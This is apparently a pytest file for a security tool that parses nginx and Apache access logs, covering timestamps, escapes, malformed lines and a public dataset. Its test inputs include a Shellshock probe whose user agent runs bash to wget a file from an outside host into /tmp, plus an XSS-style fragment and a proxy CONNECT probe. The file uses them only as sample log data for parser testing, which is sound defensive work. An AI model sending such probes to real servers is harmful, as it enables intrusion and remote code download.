"""nginx/Apache access logs: the real example lines, the variations, and a real public log."""

from __future__ import annotations

import datetime as dt
import re

import polars as pl
import pytest

from secaware.ingest import ingest
from secaware.ingest.formats import sniff
from tests.conftest import parse_lines, read_table

UTC = dt.UTC

NGINX_EXAMPLE = (
    '85.167.134.7 - - [27/Feb/2018:09:16:30 +0000] "GET /misc/ra-profile-post-script?_v=348b8632 HTTP/2.0" 200 393 '
    '"https://www.hiveworkshop.com/threads/warcraft-iii-patch-1-29-ptr.303503/page-13" "Mozilla/5.0 (Windows NT '
    '10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/64.0.3282.186 Safari/537.36"'
)
APACHE_COMMON = '127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326'


def test_nginx_combined_example_line() -> None:
    [row] = parse_lines("combined", [NGINX_EXAMPLE])
    assert row["_reject"] is None
    assert row["ts"] == dt.datetime(2018, 2, 27, 9, 16, 30, tzinfo=UTC)
    assert row["src_ip"] == "85.167.134.7"
    assert row["user"] is None
    assert (row["http_method"], row["url_path"], row["url_query"], row["http_version"]) == (
        "GET", "/misc/ra-profile-post-script", "_v=348b8632", "HTTP/2.0")
    assert (row["http_status"], row["bytes"], row["outcome"]) == (200, 393, "success")
    assert row["referer"].endswith("/page-13")
    assert row["user_agent"].startswith("Mozilla/5.0 (Windows NT 10.0")
    assert row["forwarded_for"] is None
    assert row["source"] == "combined"


def test_apache_common_example_line_converts_offset_to_utc() -> None:
    [row] = parse_lines("common", [APACHE_COMMON])
    assert row["_reject"] is None
    assert row["ts"] == dt.datetime(2000, 10, 10, 20, 55, 36, tzinfo=UTC)
    assert (row["src_ip"], row["user"], row["url_path"], row["http_status"], row["bytes"]) == (
        "127.0.0.1", "frank", "/apache_pb.gif", 200, 2326)
    assert row["user_agent"] is None and row["referer"] is None


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        # trailing X-Forwarded-For: kept in its own column, src_ip stays the connecting address
        ('10.1.1.1 - - [23/Nov/2026:10:00:00 +0800] "GET /x HTTP/1.1" 200 5 "-" "curl/8.5.0" "203.0.113.9, 10.0.0.1"',
         {"src_ip": "10.1.1.1", "forwarded_for": "203.0.113.9, 10.0.0.1", "user_agent": "curl/8.5.0"}),
        ('10.1.1.1 - - [23/Nov/2026:10:00:00 +0800] "GET /x HTTP/1.1" 200 5 "-" "curl/8.5.0" "-"',
         {"forwarded_for": None, "ts": dt.datetime(2026, 11, 23, 2, 0, tzinfo=UTC)}),
        # IPv6 with a scope, '-' size
        ('fe80::1%eth0 - - [23/Nov/2026:10:00:00 +0800] "HEAD / HTTP/1.1" 304 - "-" "-"',
         {"src_ip": "fe80::1%eth0", "bytes": None, "http_method": "HEAD", "user_agent": None}),
        # nginx \xHH escapes stay as logged; matching decodes them later
        ('1.2.3.4 - - [23/Nov/2026:10:00:00 +0800] "GET /s?q=\\xE5\\x85\\xB0 HTTP/1.1" 200 9 "-" "UA"',
         {"url_query": "q=\\xE5\\x85\\xB0"}),
        # binary junk request line (a TLS handshake to the HTTP port): an event without method/path
        ('1.2.3.4 - - [23/Nov/2026:10:00:00 +0800] "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03" 400 157 '
         '"-" "-"',
         {"http_method": None, "url_path": None, "http_status": 400, "outcome": "failure",
          "http_request": "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03"}),
        # Apache escapes quotes inside fields as \"
        ('1.2.3.4 - - [23/Nov/2026:10:00:00 +0800] "GET /a?x=\\"><svg HTTP/1.1" 404 1 "-" "say \\"hi\\""',
         {"url_query": 'x=\\"><svg', "user_agent": 'say \\"hi\\"', "http_status": 404}),
        # a hostname instead of an address is kept as logged
        ('crawler.example.org - - [23/Nov/2026:10:00:00 +0800] "GET / HTTP/1.0" 200 1 "-" "-"',
         {"src_ip": "crawler.example.org"}),
        # request target with an absolute URI (proxy probe)
        ('1.2.3.4 - - [23/Nov/2026:10:00:00 +0800] "CONNECT www.baidu.com:443 HTTP/1.1" 400 0 "-" "-"',
         {"http_method": "CONNECT", "url_path": "www.baidu.com:443"}),
    ],
)
def test_variations(line: str, expected: dict[str, object]) -> None:
    [row] = parse_lines("combined", [line])
    assert row["_reject"] is None, row["_reject"]
    for key, value in expected.items():
        assert row[key] == value, key


def test_native_split_agrees_with_the_string_splitters(datasets) -> None:
    """The CSV-reader path and the quote/regex paths give identical events for the same lines."""
    from tests.conftest import parse_frame

    text = (datasets / "elastic_apache_logs" / "apache_logs_17-18may").read_text().splitlines()[:500]
    odd = [p[0] for p in test_variations.pytestmark[0].args[1]]  # type: ignore[attr-defined]
    lines = [NGINX_EXAMPLE, APACHE_COMMON, *odd, *text, "", "junk"]
    native = parse_frame("combined", lines, native=True)
    split = parse_frame("combined", lines, native=False)
    assert native.equals(split)
    assert native["_reject"].null_count() == len(lines) - 1


def test_truncated_user_agent_is_kept_with_a_warning() -> None:
    line = ('66.249.73.135 - - [20/May/2015:21:05:11 +0000] "GET /x HTTP/1.1" 200 1 "-" '
            '"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html')
    [row] = parse_lines("combined", [line])
    assert row["_reject"] is None
    assert row["user_agent"].endswith("bot.html")
    assert "User-Agent" in row["parse_warning"]


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("this is not an access log line", "not a combined access-log line"),
        ('1.2.3.4 - - [99/Foo/2026:10:00:00 +0800] "GET / HTTP/1.1" 200 1 "-" "-"', "unreadable time: 99/Foo"),
        ('1.2.3.4 - - [23/Nov/2026:10:00:00 +0800] "GET / HTTP/1.1" abc 1 "-" "-"', "not a combined"),
    ],
)
def test_malformed_lines_are_rejected_with_reason(line: str, reason: str) -> None:
    [row] = parse_lines("combined", [line])
    assert row["_reject"].startswith(reason)


def test_huge_request_line_of_one_megabyte() -> None:
    payload = "A" * (1 << 20)
    line = f'1.2.3.4 - - [23/Nov/2026:10:00:00 +0800] "GET /?q={payload} HTTP/1.1" 414 0 "-" "scanner"'
    [row] = parse_lines("combined", [line])
    assert row["_reject"] is None
    assert len(row["url_query"]) == len(payload) + 2


def test_sniff_tells_combined_from_common() -> None:
    assert sniff([NGINX_EXAMPLE] * 3)[0] == "combined"
    assert sniff([APACHE_COMMON] * 3)[0] == "common"


@pytest.mark.write_disk
def test_real_public_access_log_parses_completely(datasets, tmp_path) -> None:
    path = datasets / "elastic_apache_logs" / "apache_logs_17-18may"
    text = path.read_text()
    # A published dataset is complete even when its copy is seconds old: read its last line too.
    report = ingest([path], tmp_path / "store", settle_seconds=0)
    [f] = report.files
    physical = text.count("\n") + (0 if text.endswith("\n") else 1)
    assert (f.format, f.lines, f.events, f.rejects) == ("combined", physical, physical, 0)
    events = read_table(tmp_path / "store", "events")
    # An independent count: status codes read with a plain regex over the raw file.
    statuses = [int(m.group(1)) for m in re.finditer(r'" (\d{3}) ', text)]
    by_class = events.group_by(pl.col("http_status") // 100).len().sort("http_status")
    expected = pl.Series([s // 100 for s in statuses]).value_counts().sort("")
    assert by_class["len"].to_list() == expected["count"].to_list()
    assert events["line_no"].sort().to_list() == list(range(1, physical + 1))
    first = events.filter(pl.col("line_no") == 1).row(0, named=True)
    assert first["ts"] == dt.datetime(2015, 5, 17, 10, 5, 3, tzinfo=UTC)
    assert first["raw"] == text.split("\n", 1)[0]
    assert first["file"] == str(path)


def test_apache_escaped_quotes_before_spaces_do_not_lose_the_chunk() -> None:
    """Apache writes a quote inside a field as \\" ; with spaces after it the CSV reader sees an extra column.
    The chunk must not fail: every line still parses (a Shellshock probe keeps its whole user agent)."""
    shellshock = ('198.51.100.4 - - [23/Nov/2026:10:00:00 +0800] "GET /cgi-bin/status HTTP/1.1" 404 512 "-" '
                  '"() { :; }; /bin/bash -c \\"wget http://203.0.113.5/b -O /tmp/b\\""')
    normal = '198.51.100.5 - - [23/Nov/2026:10:00:01 +0800] "GET / HTTP/1.1" 200 5120 "-" "Mozilla/5.0"'
    rows = parse_lines("combined", [shellshock, normal, shellshock, normal])
    assert [r["http_status"] for r in rows] == [404, 200, 404, 200]
    assert rows[2]["user_agent"] == '() { :; }; /bin/bash -c \\"wget http://203.0.113.5/b -O /tmp/b\\"'
